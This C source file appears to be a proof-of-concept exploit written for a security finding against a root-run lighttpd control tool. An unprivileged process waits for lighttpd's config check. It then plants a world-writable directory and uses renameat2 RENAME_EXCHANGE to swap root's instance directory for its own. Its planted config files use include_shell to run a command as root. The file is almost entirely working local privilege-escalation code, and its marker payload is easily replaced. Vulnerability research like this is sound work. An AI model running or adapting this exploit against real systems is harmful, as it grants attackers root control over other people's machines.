/*
 * The attacker of issue 14, finding 1, run as an unprivileged user against root's lighttpdctl:
 *   state_swap STICKY NAME CONFIG MARKER SECONDS
 * waits for `lighttpd -tt -f CONFIG` (lighttpdctl's check runs after its trust check of the state directory),
 * then creates STICKY/NAME (its own, mode 0777) in the sticky directory. If root then creates its instance
 * directory inside it, the attacker swaps that directory (renameat2 RENAME_EXCHANGE) with one of its own whose
 * generation wrapper runs `include_shell` as root, the moment root's wrapper appears, and again and again.
 * Prints what it did; exits after SECONDS.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Is some process running `lighttpd ... -tt ... CONFIG`? */
static int check_running(const char *config) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (!found && proc && (e = readdir(proc))) {
        char path[300], buf[4096];
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0) continue;
        int tt = 0, conf = 0, lighttpd = strstr(buf, "lighttpd") != NULL;
        for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1) {
            if (strcmp(buf + i, "-tt") == 0) tt = 1;
            if (strcmp(buf + i, config) == 0) conf = 1;
        }
        found = lighttpd && tt && conf;
    }
    if (proc) closedir(proc);
    return found;
}

static void write_file(const char *path, const char *text) {
    FILE *f = fopen(path, "w");
    if (!f) { perror(path); exit(2); }
    fputs(text, f);
    fclose(f);
}

int main(int argc, char **argv) {
    if (argc != 6) { fprintf(stderr, "usage: state_swap STICKY NAME CONFIG MARKER SECONDS\n"); return 2; }
    const char *sticky = argv[1], *name = argv[2], *config = argv[3], *marker = argv[4];
    double end = now() + atof(argv[5]);
    char dir[4096], evil[4096], instance[4096] = "", path[4096], shell[4096];
    snprintf(dir, sizeof dir, "%s/%s", sticky, name);
    snprintf(evil, sizeof evil, "%s/.evil", dir);
    while (now() < end && !check_running(config)) {
    }
    if (now() >= end) { printf("no lighttpd -tt seen\n"); return 1; }
    umask(0);
    if (mkdir(dir, 0777) != 0) { perror("mkdir state dir"); return 1; }
    printf("created %s after the check\n", dir);
    fflush(stdout);
    /* The attacker's own instance tree: wrappers of the next generations that run a command as root. */
    snprintf(shell, sizeof shell, "include_shell \"id -u > %s; echo\"\n", marker);
    mkdir(evil, 0777);
    snprintf(path, sizeof path, "%s/generations", evil);
    mkdir(path, 0777);
    for (int id = 1; id <= 9; id++) {
        snprintf(path, sizeof path, "%s/generations/%d.d", evil, id);
        mkdir(path, 0777);
        snprintf(path, sizeof path, "%s/generations/%d.d/lighttpdctl-generation.conf", evil, id);
        write_file(path, shell);
    }
    /* Root's instance directory, once root made it inside ours. */
    while (now() < end && instance[0] == 0) {
        DIR *d = opendir(dir);
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] != '.') snprintf(instance, sizeof instance, "%s/%s", dir, e->d_name);
        }
        if (d) closedir(d);
    }
    if (instance[0] == 0) { printf("root created nothing in %s\n", dir); return 1; }
    printf("root created %s inside it\n", instance);
    fflush(stdout);
    /* Swap the moment root's wrapper exists (lighttpd is spawned right after), then keep swapping. */
    long swaps = 0;
    struct stat st;
    while (now() < end && access(marker, F_OK) != 0) {
        int ready = 0;
        for (int id = 1; id <= 9 && !ready; id++) {
            snprintf(path, sizeof path, "%s/generations/%d.d/lighttpdctl-generation.conf", instance, id);
            ready = stat(path, &st) == 0 && st.st_uid == 0;
        }
        if (ready || swaps > 0) {
            if (renameat2(AT_FDCWD, instance, AT_FDCWD, evil, RENAME_EXCHANGE) == 0) swaps++;
            if (swaps % 2 == 1) usleep(2000); /* leave ours in place a little longer than root's */
        }
    }
    printf("%ld swaps; marker %s\n", swaps, access(marker, F_OK) == 0 ? "written" : "absent");
    return 0;
}
